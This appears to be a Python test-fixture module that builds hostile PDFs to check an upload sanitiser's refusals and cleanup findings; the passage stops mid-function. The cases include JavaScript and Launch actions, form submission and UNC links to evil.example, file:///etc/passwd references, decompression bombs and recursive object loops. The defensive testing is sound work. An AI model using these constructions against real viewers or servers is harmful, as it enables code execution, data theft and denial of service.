"""PDFs that attack, made by code: by hand, each with what is to become of it, and by mutation of good ones."""

import random
import re
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from pikepdf import (
    Array,
    Dictionary,
    Encryption,
    Name,
    Object,
    ObjectStreamMode,
    Pdf,
    Permissions,
    Stream,
    StreamDecodeLevel,
    String,
)

from tests.publishing.uploads import good

SECRET = "SECRET words that must not travel"


@dataclass(frozen=True)
class Case:
    """A hostile file. It is refused with these words, or cleaned with this finding; `is_any`: one or the other.

    `is_heavy` ones run only in the process that is held to limits, `is_slow` ones only in the soak.
    """

    name: str
    make: Callable[[], bytes]
    refused: str = ""
    finding: str = ""
    is_heavy: bool = False
    is_slow: bool = False


CASES: list[Case] = []


def case(
    refused: str = "", finding: str = "", is_heavy: bool = False, is_slow: bool = False
) -> Callable[[Callable[[], Any]], Callable[[], Any]]:
    """Note a function that makes a hostile file, as bytes or as an open PDF."""

    def note(make: Callable[[], Any]) -> Callable[[], Any]:
        def made() -> bytes:
            held = make()
            return held if isinstance(held, bytes) else good.saved(held)

        CASES.append(Case(make.__name__.replace("_", " "), made, refused, finding, is_heavy, is_slow))
        return make

    return note


def raw(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    """A file written as it stands, objects by number; 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    rows = [b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(size)]
    out += b"xref\n0 %d\n%s" % (size, b"".join(rows))
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream's body."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def small(**more: bytes) -> dict[int, bytes]:
    """The objects of a file of one page; `more` replaces "page", "pages", "catalogue" or "content"."""
    return {
        1: more.get("catalogue", b"<</Type/Catalog/Pages 2 0 R>>"),
        2: more.get("pages", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"),
        3: more.get(
            "page",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>"
            b"/XObject<</X 6 0 R>>/Pattern<</P 6 0 R>>/ExtGState<</G 6 0 R>>/Shading<</S 6 0 R>>>>>>",
        ),
        4: more.get("content", stream(good.shown("Harmless"))),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
    }


def first(pdf: Pdf) -> Object:
    """The first page."""
    return pdf.pages[0].obj


def annotated(**entries: Any) -> Pdf:
    """A file with an annotation over a line of its first page."""
    pdf = good.blank()
    annotation = Dictionary(Type=Name.Annot, Rect=[72, 690, 200, 720], **entries)
    first(pdf).Annots = Array([pdf.make_indirect(annotation)])
    return pdf


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('SECRET')"))


# --- Scripts and actions -----------------------------------------------------------------------------------------


@case(finding="scripts-removed")
def a_script_on_opening() -> Pdf:
    pdf = good.blank()
    pdf.Root.OpenAction = script()
    return pdf


@case(finding="scripts-removed")
def a_script_by_name() -> Pdf:
    pdf = good.blank()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("go"), script()])))
    return pdf


@case(finding="scripts-removed")
def a_script_in_a_stream() -> Pdf:
    pdf = good.blank()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_indirect(Stream(pdf, b"app.alert('SECRET')")))
    return pdf


@case(finding="scripts-removed")
def a_script_when_a_page_opens() -> Pdf:
    pdf = good.blank()
    first(pdf).AA = Dictionary(O=script(), C=script())
    return pdf


@case(finding="scripts-removed")
def a_script_when_the_file_closes() -> Pdf:
    pdf = good.blank()
    pdf.Root.AA = Dictionary(WC=script())
    return pdf


@case(finding="scripts-removed")
def a_script_under_a_link() -> Pdf:
    return annotated(Subtype=Name.Link, A=script())


@case(finding="links-removed")
def a_script_as_an_address() -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert('SECRET')")))


@case(finding="links-removed")
def a_file_as_an_address() -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))


@case(finding="links-removed")
def an_address_with_a_line_end() -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org/\n/Launch (x)")))


@case(finding="scripts-removed")
def a_script_behind_a_good_address() -> Pdf:
    action = Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=Array([script()]))
    return annotated(Subtype=Name.Link, A=action)


@case(finding="scripts-removed")
def a_script_in_a_bookmark() -> Pdf:
    pdf = good.blank()
    entry = pdf.make_indirect(Dictionary(Title=String("Go"), A=script()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=entry, Last=entry, Count=1))
    return pdf


@case(finding="scripts-removed")
def a_script_in_a_field() -> Pdf:
    pdf = field_of(good.blank())
    pdf.Root.AcroForm.Fields[0].AA = Dictionary(K=script(), V=script())
    return pdf


def acting(kind: str, **entries: Any) -> Pdf:
    return annotated(Subtype=Name.Link, A=Dictionary(S=Name("/" + kind), **entries))


@case(finding="actions-removed")
def a_program_to_start() -> Pdf:
    return acting("Launch", F=String("calc.exe"), Win=Dictionary(F=String("calc.exe")))


@case(finding="actions-removed")
def a_program_to_start_on_opening() -> Pdf:
    pdf = good.blank()
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe")))
    return pdf


@case(finding="actions-removed")
def a_form_to_send() -> Pdf:
    return acting("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://evil.example/")))


@case(finding="actions-removed")
def a_file_to_import() -> Pdf:
    return acting("ImportData", F=String("/etc/passwd"))


@case(finding="links-removed")
def a_page_of_another_file() -> Pdf:
    return acting("GoToR", F=String("\\\\evil.example\\share"), D=Array([0, Name.Fit]))


@case(finding="actions-removed")
def a_page_of_an_attached_file() -> Pdf:
    return acting("GoToE", T=Dictionary(R=Name.C, N=String("x")))


@case(finding="actions-removed")
def a_menu_command() -> Pdf:
    return acting("Named", N=Name.Print)


@case(finding="actions-removed")
def a_rendition() -> Pdf:
    return acting("Rendition", OP=0, JS=String("SECRET"))


# --- What travels along ------------------------------------------------------------------------------------------


def attached(pdf: Pdf) -> Dictionary:
    held = pdf.make_indirect(Stream(pdf, SECRET.encode(), Type=Name.EmbeddedFile))
    return Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=held))


@case(finding="files-removed")
def an_attached_file() -> Pdf:
    pdf = good.blank()
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), attached(pdf)])))
    pdf.Root.AF = Array([attached(pdf)])
    return pdf


@case(finding="files-removed")
def a_file_pinned_to_a_page() -> Pdf:
    pdf = annotated(Subtype=Name.FileAttachment)
    first(pdf).Annots[0].FS = attached(pdf)
    return pdf


@case(refused="portfolio")
def a_portfolio() -> Pdf:
    pdf = good.blank()
    pdf.Root.Collection = Dictionary(View=Name.D)
    return pdf


def field_of(pdf: Pdf) -> Pdf:
    look = Stream(pdf, b"/Tx BMC q BT /F1 10 Tf (Filled in) Tj ET Q EMC", Type=Name.XObject, Subtype=Name.Form)
    look.BBox = Array([0, 0, 100, 20])
    look.Resources = Dictionary(Font=Dictionary(F1=good.helvetica(pdf)))
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=[72, 600, 172, 620],
            FT=Name.Tx,
            T=String("a"),
            V=String("Filled in"),
            AP=Dictionary(N=pdf.make_indirect(look)),
        )
    )
    first(pdf).Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return pdf


@case(finding="forms-removed")
def a_form() -> Pdf:
    return field_of(good.blank())


@case(finding="forms-removed")
def a_form_in_xml() -> Pdf:
    pdf = good.blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(Stream(pdf, b"<xdp>SECRET</xdp>")))
    return pdf


@case(refused="its own program makes")
def a_form_that_makes_its_pages() -> Pdf:
    pdf = good.blank()
    pdf.Root.NeedsRendering = True
    return pdf


@case(finding="media-removed")
def a_film() -> Pdf:
    return annotated(Subtype=Name.Movie, Movie=Dictionary(F=String("x.avi")))


@case(finding="media-removed")
def a_sound() -> Pdf:
    return annotated(Subtype=Name.Sound)


@case(finding="media-removed")
def rich_media() -> Pdf:
    return annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary())


@case(finding="media-removed")
def a_model() -> Pdf:
    pdf = annotated(Subtype=Name("/3D"))
    first(pdf).Annots[0]["/3DD"] = pdf.make_indirect(Stream(pdf, b"SECRET", Type=Name("/3D")))
    return pdf


@case(finding="comments-removed")
def a_comment() -> Pdf:
    return annotated(Subtype=Name.Text, Contents=String(SECRET))


@case(finding="redaction-not-applied")
def a_redaction_that_was_never_made() -> Pdf:
    return annotated(Subtype=Name.Redact, OverlayText=String("x"))


@case(finding="metadata-removed")
def notes_about_itself() -> Pdf:
    pdf = good.blank()
    pdf.docinfo["/Author"] = String(SECRET)
    pdf.Root.Metadata = pdf.make_indirect(Stream(pdf, SECRET.encode(), Type=Name.Metadata, Subtype=Name.XML))
    first(pdf).PieceInfo = Dictionary(X=Dictionary(Private=String(SECRET)))
    first(pdf).Thumb = pdf.make_indirect(Stream(pdf, SECRET.encode()))
    first(pdf).Metadata = pdf.Root.Metadata
    return pdf


# --- Layers ------------------------------------------------------------------------------------------------------


def layered(content: bytes, drawn: str = SECRET) -> Pdf:
    """A file with a layer L1 that is off and a layer L2 that is on, and a drawing that is off."""
    pdf = good.blank()
    off, on = (pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String(name))) for name in ("off", "on"))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([off, on]), D=Dictionary(OFF=Array([off])))
    either = pdf.make_indirect(Dictionary(Type=Name.OCMD, OCGs=Array([off, on]), P=Name.AllOn))
    neither = pdf.make_indirect(Dictionary(Type=Name.OCMD, VE=Array([Name.Not, on])))
    page = first(pdf)
    page.Resources.Properties = Dictionary(L1=off, L2=on, L3=either, L4=neither)
    page.Contents = pdf.make_indirect(Stream(pdf, content))
    look = Stream(pdf, good.shown(drawn), Type=Name.XObject, Subtype=Name.Form, OC=off)
    look.BBox = Array([0, 0, 100, 20])
    page.Resources.XObject = Dictionary(X=pdf.make_indirect(look))
    return pdf


@case(finding="hidden-layers")
def text_in_a_hidden_layer() -> Pdf:
    return layered(b"/OC /L1 BDC " + good.shown(SECRET) + b"EMC /OC /L2 BDC " + good.shown("Shown") + b"EMC")


@case(finding="hidden-layers")
def a_drawing_in_a_hidden_layer() -> Pdf:
    return layered(good.shown("Shown") + b"/X Do")


@case(finding="hidden-layers")
def text_in_layers_of_which_one_is_hidden() -> Pdf:
    return layered(b"/OC /L3 BDC " + good.shown(SECRET) + b"EMC /OC /L4 BDC " + good.shown(SECRET) + b"EMC")


@case(finding="hidden-layers")
def text_in_a_layer_inside_a_layer() -> Pdf:
    return layered(b"/OC /L1 BDC /OC /L2 BDC " + good.shown(SECRET) + b"EMC " + good.shown(SECRET) + b"EMC")


@case(finding="hidden-layers")
def text_in_a_layer_that_is_not_there() -> Pdf:
    return layered(b"/OC /Nowhere BDC " + good.shown(SECRET) + b"EMC" + good.shown("Shown"))


# --- Pictures and drawings ---------------------------------------------------------------------------------------


def drawing(entries: bytes, content: bytes = b"0 0 m", **more: bytes) -> bytes:
    """A file whose page draws the object 6."""
    objects = small(content=stream(good.shown("Shown") + b"/X Do /P gs /G gs /S sh /Pattern cs /P scn 0 0 9 9 re f"))
    objects[6] = stream(content, entries)
    for number, body in more.items():
        objects[int(number[1:])] = body
    return raw(objects)


@case(finding="content-removed")
def a_picture_in_another_file() -> bytes:
    return drawing(
        b"/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F(/etc/passwd)"
    )


@case(finding="content-removed")
def a_drawing_in_postscript() -> bytes:
    return drawing(b"/Type/XObject/Subtype/PS", b"SECRET")


@case()
def a_drawing_that_stands_for_another_file() -> bytes:
    return drawing(
        b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(x.pdf)/Page 0>>/OPI<</2.0<</F(x)>>>>/PieceInfo<</X(SECRET)>>"
    )


@case()
def a_picture_with_alternates() -> bytes:
    return drawing(
        b"/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Alternates[<</Image 6 0 R>>]/Metadata 7 0 R",
        b"x",
        o7=stream(b"SECRET"),
    )


@case(finding="content-removed")
def a_picture_as_large_as_a_town() -> bytes:
    return drawing(
        b"/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter/JBIG2Decode"
    )


@case()
def a_drawing_that_draws_itself() -> bytes:
    return drawing(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>", b"/X Do")


@case()
def two_drawings_that_draw_each_other() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    return drawing(form % 7, b"/X Do", o7=stream(b"/X Do /X Do", form % 6))


@case()
def a_drawing_without_resources_that_draws_itself() -> bytes:
    return drawing(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]", b"/X Do /X Do")


@case(refused="drawings in drawings")
def drawings_that_multiply() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    more = {f"o{n}": stream(b"/X Do " * 20, form % (n + 1)) for n in range(7, 30)}
    more["o30"] = stream(b"0 0 m 9 9 l S", form % 99)
    return drawing(form % 7, b"/X Do " * 20, **more)


@case()
def drawings_without_end() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    return drawing(form % 7, b"/X Do", **{f"o{n}": stream(b"/X Do", form % (n + 1)) for n in range(7, 3000)})


@case()
def a_pattern_of_itself() -> bytes:
    return drawing(
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9/Resources<</Pattern<</P 6 0 R>>>>",
        b"/Pattern cs /P scn 0 0 9 9 re f",
    )


@case(finding="content-removed")
def a_pattern_without_steps() -> bytes:
    return drawing(b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 0.00001/YStep 0/Resources<<>>")


@case()
def a_mask_of_itself() -> bytes:
    objects = small(content=stream(b"/G gs 0 0 9 9 re f"))
    objects[6] = b"<</Type/ExtGState/SMask<</S/Alpha/G 7 0 R>>>>"
    objects[7] = stream(b"/G gs", b"/Subtype/Form/BBox[0 0 9 9]/Resources<</ExtGState<</G 6 0 R>>>>")
    return raw(objects)


@case()
def a_font_of_itself() -> bytes:
    objects = small(content=stream(good.shown("a")))
    objects[5] = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>"
    )
    objects[7] = stream(b"9 0 d0 " + good.shown("a"))
    return raw(objects)


@case()
def a_composite_font_of_itself() -> bytes:
    objects = small()
    objects[5] = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 5 0 R>>"
    return raw(objects)


@case()
def a_function_of_itself() -> bytes:
    objects = small(content=stream(b"/S sh"))
    objects[6] = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 9 9]/Function 7 0 R>>"
    objects[7] = b"<</FunctionType 3/Domain[0 1]/Functions[7 0 R 7 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    return raw(objects)


@case()
def a_colour_of_itself() -> bytes:
    objects = small(page=small()[3].replace(b"/Font", b"/ColorSpace<</C 7 0 R>>/Font"), content=stream(b"/C cs 1 scn"))
    objects[7] = b"[/Indexed 7 0 R 1 (xx)]"
    return raw(objects)


# --- Locks -------------------------------------------------------------------------------------------------------


def locked(**how: Any) -> bytes:
    out = BytesIO()
    good.blank().save(out, encryption=Encryption(**how))
    return out.getvalue()


@case(refused="locked with a password")
def a_password() -> bytes:
    return locked(user="secret", owner="secret", R=6)


@case(refused="restricts")
def an_authors_restriction() -> bytes:
    return locked(user="", owner="secret", R=6, allow=Permissions(extract=False))


@case(refused="restricts")
def an_old_authors_restriction() -> bytes:
    return locked(user="", owner="secret", R=3, aes=False, metadata=False)


@case(refused="encrypted")
def an_unknown_lock() -> bytes:
    return raw(small(), b"/Encrypt<</Filter/Own.Lock/V 9/R 9>>/ID[(a)(b)]")


# --- Pages -------------------------------------------------------------------------------------------------------


@case(refused="no PDF")
def a_text() -> bytes:
    return b"Dear Clerk, please find attached."


@case(refused="empty")
def nothing() -> bytes:
    return b""


@case(refused="broken")
def only_a_head() -> bytes:
    return b"%PDF-1.7\n"


@case(refused="no pages")
def no_pages() -> bytes:
    return raw(small(pages=b"<</Type/Pages/Count 0/Kids[]>>"))


@case(refused="loop")
def pages_in_a_loop() -> bytes:
    return raw(small(pages=b"<</Type/Pages/Count 1/Kids[2 0 R 3 0 R]>>"))


@case(refused="loop")
def pages_in_a_wide_loop() -> bytes:
    objects = small(pages=b"<</Type/Pages/Count 1/Kids[7 0 R 3 0 R]>>")
    return raw(objects | {7: b"<</Type/Pages/Kids[8 0 R]>>", 8: b"<</Type/Pages/Kids[3 0 R 2 0 R]>>"})


@case(refused="loop")
def one_page_twice() -> bytes:
    return raw(small(pages=b"<</Type/Pages/Count 2/Kids[3 0 R 3 0 R]>>"))


@case(refused="broken")
def pages_that_are_no_pages() -> bytes:
    return raw(small(pages=b"<</Type/Pages/Count 3/Kids[null 7 (x)]>>"))


@case(refused="broken")
def pages_nested_without_end() -> bytes:
    objects = small(pages=b"<</Type/Pages/Kids[10 0 R]>>")
    return raw(objects | {n: b"<</Type/Pages/Kids[%d 0 R]>>" % (n + 1) for n in range(10, 5000)})


@case(refused="more than 1,000 pages")
def too_many_pages() -> bytes:
    objects = small(pages=b"<</Type/Pages/Kids[%s]>>" % b" ".join(b"%d 0 R" % n for n in range(10, 1012)))
    return raw(objects | dict.fromkeys(range(10, 1012), objects[3]))


@case(refused="impossible size")
def a_huge_page() -> bytes:
    return raw(small(page=small()[3].replace(b"595 842", b"900000 900000")))


@case(refused="impossible size")
def a_page_of_no_size() -> bytes:
    return raw(small(page=small()[3].replace(b"595 842", b"0.001 842")))


@case(refused="impossible size")
def a_page_of_huge_units() -> bytes:
    return raw(small(page=small()[3].replace(b"/Contents", b"/UserUnit 1000/Contents")))


@case(refused="how large")
def a_page_without_size() -> bytes:
    return raw(small(page=small()[3].replace(b"/MediaBox[0 0 595 842]", b"")))


@case(refused="how large")
def a_page_of_words() -> bytes:
    return raw(small(page=small()[3].replace(b"0 0 595 842", b"(a) /b [] 5 0 R")))


@case(refused="Page 1 of this PDF is broken")
def a_page_that_is_askew() -> bytes:
    return raw(small(page=small()[3].replace(b"/Contents", b"/Rotate 45/Contents")))


@case(finding="no-text")
def a_page_without_content() -> bytes:
    return raw(small(page=small()[3].replace(b"/Contents 4 0 R", b"")))


@case()
def a_page_whose_content_is_not_there() -> bytes:
    return raw(small(page=small()[3].replace(b"/Contents 4 0 R", b"/Contents[99 0 R null 4 0 R 3 0 R]")))


@case(finding="cropped")
def a_page_that_is_cropped() -> bytes:
    return raw(small(page=small()[3].replace(b"/Contents", b"/CropBox[100 100 400 400]/Contents")))


@case(finding="page-size")
def a_page_of_letter_size() -> bytes:
    return raw(small(page=small()[3].replace(b"595 842", b"612 792")))


# --- Instructions ------------------------------------------------------------------------------------------------


def instructed(content: bytes) -> bytes:
    return raw(small(content=stream(content)))


@case()
def states_left_open() -> bytes:
    return instructed(b"q q q BT /F1 9 Tf (a) Tj /Span BMC /P <</MCID 0>> BDC")


@case(finding="broken-content")
def states_closed_too_often() -> bytes:
    return instructed(b"Q Q Q ET EMC EMC BT BT ET ET " + good.shown("Shown"))


@case(is_heavy=True, is_slow=True)
def a_million_states() -> bytes:
    return instructed(b"q " * 1_000_000 + good.shown("Shown"))


@case(is_heavy=True, is_slow=True, refused="content inside content")
def a_million_marks() -> bytes:
    return instructed(b"/A BMC " * 1_000_000)


@case(finding="broken-content")
def instructions_that_are_none() -> bytes:
    return instructed(b"(x) 5 launch /A /B do << /X 1 >> 1 2 3 w /F9 9 Tf (SECRET) Tj " + good.shown("Shown"))


@case(finding="broken-content")
def instructions_that_end_in_a_string() -> bytes:
    return instructed(good.shown("Shown") + b"(never closed")


@case()
def arrays_nested_without_end() -> bytes:
    return instructed(b"[" * 100_000 + b"]" * 100_000 + b" TJ")


@case(finding="broken-content")
def paths_that_are_never_painted() -> bytes:
    return instructed(b"1 2 m BT /F1 9 Tf (Shown) Tj ET 1 2 m 3 4 l /A BMC S EMC 1 2 m q Q 1 2 m /A BMC")


@case(finding="invisible-text")
def text_that_does_not_show() -> bytes:
    return instructed(b"3 Tr " + good.shown("Not seen"))


@case()
def pictures_inside_instructions() -> bytes:
    return instructed(b"BI /W 99999 /H 99999 /BPC 8 /CS /G ID x EI BI /W 1 /H 1 /BPC 8 /CS /Nowhere ID x EI BI ID")


# --- Bombs -------------------------------------------------------------------------------------------------------


def packed(size: int, times: int = 1) -> bytes:
    """So many million blanks, packed so often. The last block is missing, which readers forgive."""
    packer = zlib.compressobj(9)
    blanks = b" " * 1_000_000
    start = packer.compress(blanks) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(blanks) + packer.flush(zlib.Z_FULL_FLUSH)
    data = start + again * (size - 1)
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


@case(refused="more than a paper may hold", is_heavy=True)
def a_bomb() -> bytes:
    return raw(small(content=stream(packed(2000), b"/Filter/FlateDecode")))


@case(refused="broken", is_heavy=True)
def a_bomb_in_a_bomb() -> bytes:
    return raw(small(content=stream(packed(2000, 2), b"/Filter[/FlateDecode/FlateDecode]")))


@case(refused="more than a paper may hold", is_heavy=True)
def a_picture_that_is_a_bomb() -> bytes:
    return drawing(
        b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
        packed(1000),
    )


@case(refused="more than a paper may hold", is_heavy=True)
def a_font_that_is_a_bomb() -> bytes:
    objects = small()
    objects[5] = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 7 0 R>>"
    objects[7] = b"<</Type/FontDescriptor/FontName/X/Flags 32/FontFile2 8 0 R>>"
    objects[8] = stream(packed(1000), b"/Filter/FlateDecode")
    return raw(objects)


@case(is_heavy=True)
def a_bomb_of_objects() -> bytes:
    objects = small()
    objects[9] = stream(packed(3000), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    return raw(objects)


@case(is_heavy=True, refused="broken")
def a_list_of_objects_that_is_a_bomb() -> bytes:
    head = b"%PDF-1.7\n"
    entries = b"/Type/XRef/Size 99999999/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    table = b"5 0 obj\n" + stream(packed(700), entries) + b"\nendobj\n"
    return head + table + b"startxref\n%d\n%%%%EOF" % len(head)


@case(is_heavy=True, is_slow=True)
def instructions_by_the_million() -> bytes:
    return raw(small(content=stream(zlib.compress(b"0 0 m\n" * 4_000_000, 9), b"/Filter/FlateDecode")))


@case(is_heavy=True, refused="broken")
def predictors_of_endless_columns() -> bytes:
    parameters = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32/BitsPerComponent 16>>"
    return raw(small(content=stream(zlib.compress(b"x" * 1000), parameters)))


@case(is_heavy=True, is_slow=True)
def a_million_objects() -> bytes:
    return raw(small() | dict.fromkeys(range(10, 900_000), b"0"))


@case(is_heavy=True, is_slow=True, refused="1,000,000 objects")
def more_than_a_million_objects() -> bytes:
    return raw(small() | dict.fromkeys(range(10, 1_100_000), b"0"))


# --- Files -------------------------------------------------------------------------------------------------------


@case()
def a_giant_table_of_places() -> bytes:
    return re.sub(rb"/Size \d+", b"/Size 2147483647", raw(small())).replace(b"xref\n0 6", b"xref\n0 999999999")


@case()
def negative_lengths() -> bytes:
    return raw(small()).replace(b"/Length ", b"/Length -")


@case()
def lengths_that_name_themselves() -> bytes:
    return raw(small(content=b"<</Length 4 0 R>>\nstream\n" + good.shown("Shown") + b"\nendstream"))


@case()
def objects_in_themselves() -> bytes:
    body = b"9 0 10 4 <<>> 5"
    return raw(small() | {9: stream(body, b"/Type/ObjStm/N 2/First 10/Extends 9 0 R")}, b"/Prev 9")


@case()
def tables_of_places_in_a_loop() -> bytes:
    data = raw(small())
    start = int(data.rpartition(b"startxref\n")[2].split()[0])
    return data.replace(b"/Root", b"/Prev %d/Root" % start)


@case()
def references_in_a_loop() -> bytes:
    return raw(small() | {6: b"7 0 R", 7: b"6 0 R"})


@case(refused="broken")
def no_catalogue() -> bytes:
    return raw(small(catalogue=b"[]"))


@case()
def names_in_a_loop() -> bytes:
    objects = small(catalogue=b"<</Type/Catalog/Pages 2 0 R/Names<</Dests 7 0 R>>/Dests 7 0 R>>")
    return raw(objects | {7: b"<</Kids[7 0 R 8 0 R]>>", 8: b"<</Kids[7 0 R]/Names[(a) 8 0 R (b)]>>"})


@case()
def bookmarks_in_a_loop() -> bytes:
    objects = small(catalogue=b"<</Type/Catalog/Pages 2 0 R/Outlines 7 0 R>>")
    return raw(objects | {7: b"<</First 8 0 R>>", 8: b"<</Title(a)/Next 8 0 R/First 7 0 R>>"})


@case()
def numbers_beyond_all_measure() -> bytes:
    page = small()[3].replace(b"/Contents", b"/Rotate 99999999999999999999999999/UserUnit 1/Contents")
    return raw(small(page=page, content=stream(b"9" * 400 + b" w " + b"1e99999 w -.-5 w " + good.shown("Shown"))))


# --- Tags --------------------------------------------------------------------------------------------------------


def tagged_small(root: bytes, **objects: bytes) -> bytes:
    """A file of one page whose tags are written as they stand: the root is object 7."""
    held = small(
        catalogue=b"<</Type/Catalog/Pages 2 0 R/StructTreeRoot 7 0 R/MarkInfo<</Marked true>>>>",
        content=stream(b"/P <</MCID 0>> BDC " + good.shown("Shown") + b"EMC"),
    )
    held[7] = root
    return raw(held | {int(number[1:]): body for number, body in objects.items()})


@case(refused="hang in themselves")
def tags_in_a_loop() -> bytes:
    return tagged_small(b"<</K 8 0 R>>", o8=b"<</S/Sect/K[9 0 R]>>", o9=b"<</S/P/Pg 3 0 R/K[0 8 0 R]>>")


@case(finding="tags-repaired")
def tags_that_hang_twice() -> bytes:
    return tagged_small(b"<</K[8 0 R 8 0 R 9 0 R]>>", o8=b"<</S/P/Pg 3 0 R/K 0>>", o9=b"<</S/Sect/K 8 0 R>>")


@case(finding="tags-repaired")
def one_text_in_two_tags() -> bytes:
    return tagged_small(b"<</K[8 0 R 9 0 R]>>", o8=b"<</S/P/Pg 3 0 R/K 0>>", o9=b"<</S/H1/Pg 3 0 R/K[0 0 0]>>")


@case()
def tags_nested_without_end() -> bytes:
    deep = {f"o{n}": b"<</S/Div/K %d 0 R>>" % (n + 1) for n in range(8, 9000)}
    return tagged_small(b"<</K 8 0 R>>", **deep, o9000=b"<</S/P/Pg 3 0 R/K 0>>")


@case()
def roles_in_a_loop() -> bytes:
    return tagged_small(b"<</K 8 0 R/RoleMap<</A/B/B/A>>>>", o8=b"<</S/A/Pg 3 0 R/K 0>>")


@case()
def classes_in_a_loop() -> bytes:
    root = b"<</K 8 0 R/ClassMap<</A[9 0 R]>>>>"
    return tagged_small(root, o8=b"<</S/TH/C/A/A 9 0 R/Pg 3 0 R/K 0>>", o9=b"[9 0 R <</O/Table/ColSpan 99999999>>]")


@case(finding="not-tagged")
def tags_that_hold_nothing() -> bytes:
    return tagged_small(b"<</K[null 5 (x) 3 0 R 99 0 R]>>")


@case(finding="text-not-in-tags")
def tags_that_leave_text_out() -> bytes:
    held = tagged_small(b"<</K 8 0 R>>", o8=b"<</S/P/Pg 3 0 R/K 0>>")
    return held.replace(b"(Shown) Tj", b"(Sh) Tj EMC(ow)Tj")


# --- By mutation -------------------------------------------------------------------------------------------------

_PIECES = (
    b"/JavaScript",
    b"<<",
    b">>",
    b"[",
    b"]",
    b"(",
    b"endobj",
    b"stream\n",
    b"9999999999",
    b"-1",
    b"0 0 R",
    b"3 0 R",
    b"null",
    b"/Kids",
    b"/Length",
    b"\0",
)
_NUMBER = re.compile(rb"\d+")
_REFERENCE = re.compile(rb"(\d+) 0 R")
_OBJECT = re.compile(rb"(\d+) 0 obj\n(.*?)endobj", re.DOTALL)


def mutation(good_file: bytes, chance: random.Random) -> bytes:
    """The file changed in a few places, by one of several ways."""
    return chance.choice([_bytes_changed, _cut, _numbers_changed, _references_changed, _objects_swapped])(
        good_file, chance
    )


def _bytes_changed(data: bytes, chance: random.Random) -> bytes:
    for _ in range(chance.choice([1, 3, 20])):
        at = chance.randrange(len(data))
        end = min(len(data), at + chance.choice([1, 1, 4, 40]))
        piece = chance.choice([chance.randbytes(end - at), chance.choice(_PIECES), data[at:end] * 3])
        data = data[:at] + piece + data[chance.choice([at, end]) :]
    return data


def _cut(data: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(data))
